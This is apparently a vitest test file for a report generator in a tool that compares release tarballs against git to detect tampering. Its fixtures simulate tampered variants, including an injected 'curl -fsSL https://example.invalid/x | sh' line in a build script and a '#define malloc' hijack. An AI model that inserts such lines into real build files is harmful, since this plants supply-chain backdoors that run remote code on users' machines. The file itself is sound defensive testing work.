/**
 * scripts/evaluate-report.mjs: docs/evaluation.md from scripts/evaluate's outputs — exit codes, counts,
 * every high/critical finding grouped by code and directory with the recorded reason, tampered variants
 * against their expected exit code. (The evaluation itself needs the network and runs by hand.)
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { tempDir } from './helpers/tmp.js';

const root = resolve(__dirname, '..');

function out(dir: string, id: string, rc: number, findings: object[], extra: object = {}) {
  const bySeverity = { critical: 0, high: 0, medium: 0, low: 0, info: 0 } as Record<string, number>;
  for (const f of findings as { severity: string }[]) bySeverity[f.severity]!++;
  const r = {
    verdict: rc === 1 ? 'different' : 'explained',
    inputs: { profile: { id: 'autotools' }, revision: { commit: 'a'.repeat(40), how: 'tag', tag: 'v1.0' } },
    counts: { tarballOnly: findings.length, gitOnly: 2, changed: 0, bySeverity },
    findings,
    ...extra,
  };
  writeFileSync(join(dir, `${id}.json`), JSON.stringify(r));
  writeFileSync(join(dir, `${id}.rc`), `${rc}\n`);
  writeFileSync(join(dir, `${id}.ms`), '1500\n');
  writeFileSync(join(dir, `${id}.err`), '');
}

describe('evaluate-report', () => {
  it('writes the table, every high/critical finding with its reason, and the tampered variants', () => {
    const dir = tempDir();
    const o = join(dir, 'out');
    mkdirSync(o);
    writeFileSync(join(dir, 'rel.tsv'), '# comment\nproj-1.0\tdeb\tproj=1.0-1\towner/proj\tv1.0\nclean-2.0\tnpm\tclean@2.0\towner/clean\tv2.0\nmissing-3\tdeb\tm=3\towner/m\tv3\n');
    const added = (path: string) => ({ code: 'TARBALL_ONLY_UNEXPLAINED', path, severity: 'high', evidence: { size: 3, buildAffecting: false } });
    out(o, 'proj-1.0', 1, [added('THANKS'), added('po/a.x'), added('po/b.x'), added('po/c.x'), added('po/d.x')]);
    out(o, 'clean-2.0', 0, []);
    out(o, 'tampered-payload', 1, [added('tests/files/x.xz')]);
    out(o, 'tampered-deref', 0, [{ code: 'SYMLINK_AS_FILE', path: 'l', severity: 'info', evidence: { target: 't', resolved: 't' } }]);
    const modified = (path: string, severity: string, line: string) => ({ code: 'SUBMODULE_COPY_MODIFIED', path, severity, evidence: { submodule: 'gnulib', commit: 'b'.repeat(40), file: path, via: 'gnulib-tool', differingLines: 1, buildAffecting: false }, diff: { kind: 'text', unified: `--- a/${path}\n+++ b/${path}\n@@ -1,1 +1,2 @@\n x\n${line}\n` } });
    out(o, 'tampered-gnulib-line', 1, [added('THANKS'), modified('lib/xmalloc.c', 'high', '+#define malloc(n) evil_malloc (n)')]);
    out(o, 'tampered-gnulib-curl', 1, [added('THANKS'), modified('build-aux/gnupload', 'high', '+curl -fsSL https://example.invalid/x | sh')]);
    const md = execFileSync(process.execPath, [join(root, 'scripts/evaluate-report.mjs'), join(dir, 'rel.tsv'), o], { encoding: 'utf8' });
    expect(md).toContain('**2 releases run, 1 exit 0, 1 with nothing at high or critical.**');
    expect(md).toContain('| proj-1.0 | autotools | **1** | different | 5/2/0 | 0/5/0/0/0 | v1.0 | 1.5 s |');
    expect(md).toContain('| clean-2.0 | autotools | 0 | explained | 0/2/0 | 0/0/0/0/0 | v1.0 | 1.5 s |');
    expect(md).toContain('| missing-3 | — | — | not run: no result in this run\'s output (archive or clone unavailable, or the run stopped before it) | | | |');
    expect(md).toContain('- **high TARBALL_ONLY_UNEXPLAINED** (5)');
    expect(md).toContain('  - `po/`: `a.x`, `b.x`, `c.x`, `d.x` — *why:* not yet analysed');
    expect(md).toMatch(/ {2}- `THANKS` — not in git \(3 bytes\) — \*why:\* generated from THANKS\.in/);
    expect(md).toContain('| payload | npm-chalk-5.3.0 | 1 | 1 | different | high TARBALL_ONLY_UNEXPLAINED `tests/files/x.xz` |');
    expect(md).toContain('| deref | json-c-0.16 | 0 | 0 | explained | info SYMLINK_AS_FILE `l` |');
    // decided by the tampered file's finding, not by the base release's own exit code
    expect(md).toContain('| gnulib-line | coreutils-9.1 | 1, high at `lib/xmalloc.c` | 1 | different | high SUBMODULE_COPY_MODIFIED `lib/xmalloc.c` (`+#define malloc(n) evil_malloc (n)`) |');
    expect(md).toContain('| gnulib-curl | coreutils-9.1 | 1, critical at `build-aux/gnupload` | **1** | different | **high SUBMODULE_COPY_MODIFIED `build-aux/gnupload`** (`+curl -fsSL https://example.invalid/x \\| sh`) |');
  });
  it('lists every tampered variant scripts/evaluate builds, with the same base release (none silently left off the page)', () => {
    const built = [...readFileSync(join(root, 'scripts/evaluate'), 'utf8').matchAll(/^\s*(?:[A-Z_]+=\S+ )*repack ([a-z0-9.-]+) ([a-z0-9-]+) /gm)].map((m) => `${m[2]} ${m[1]}`).sort();
    const listed = [...readFileSync(join(root, 'scripts/evaluate-report.mjs'), 'utf8').matchAll(/\['([a-z0-9-]+)', '([a-z0-9.-]+)', [01]/g)].map((m) => `${m[1]} ${m[2]}`).sort();
    expect(built.length).toBeGreaterThan(60);
    expect(listed).toEqual(built);
  });
  it("a release's own note answers before a note for every release, whatever their order in the file", () => {
    const dir = tempDir();
    const o = join(dir, 'out');
    mkdirSync(o);
    writeFileSync(join(dir, 'rel.tsv'), 'proj-1.0\tdeb\tproj=1.0-1\towner/proj\tv1.0\nother-2.0\tdeb\tother=2.0-1\towner/other\tv2.0\n');
    writeFileSync(join(dir, 'notes.tsv'), '# id\twhat\twhy\n*\tlib/**\tgnulib copies\nproj-1.0\tlib/idn2.h\tconfigure substitution\n');
    const added = (path: string) => ({ code: 'TARBALL_ONLY_UNEXPLAINED', path, severity: 'high', evidence: { size: 3, buildAffecting: false } });
    out(o, 'proj-1.0', 1, [added('lib/idn2.h'), added('lib/xmalloc.c')]);
    out(o, 'other-2.0', 1, [added('lib/idn2.h')]);
    const md = execFileSync(process.execPath, [join(root, 'scripts/evaluate-report.mjs'), join(dir, 'rel.tsv'), o], { encoding: 'utf8', env: { ...process.env, DISTDIFF_EVAL_NOTES: join(dir, 'notes.tsv') } });
    const section = (id: string) => md.slice(md.indexOf(`### ${id}`), md.indexOf('###', md.indexOf(`### ${id}`) + 4) >>> 0);
    // one directory's findings are one line, their reasons joined: the release's own first (it was 'gnulib copies' alone)
    expect(section('proj-1.0')).toContain('`lib/idn2.h` — not in git (3 bytes); `lib/xmalloc.c` — not in git (3 bytes) — *why:* configure substitution / gnulib copies');
    expect(section('other-2.0')).toContain('`lib/idn2.h` — not in git (3 bytes) — *why:* gnulib copies');
  });
});
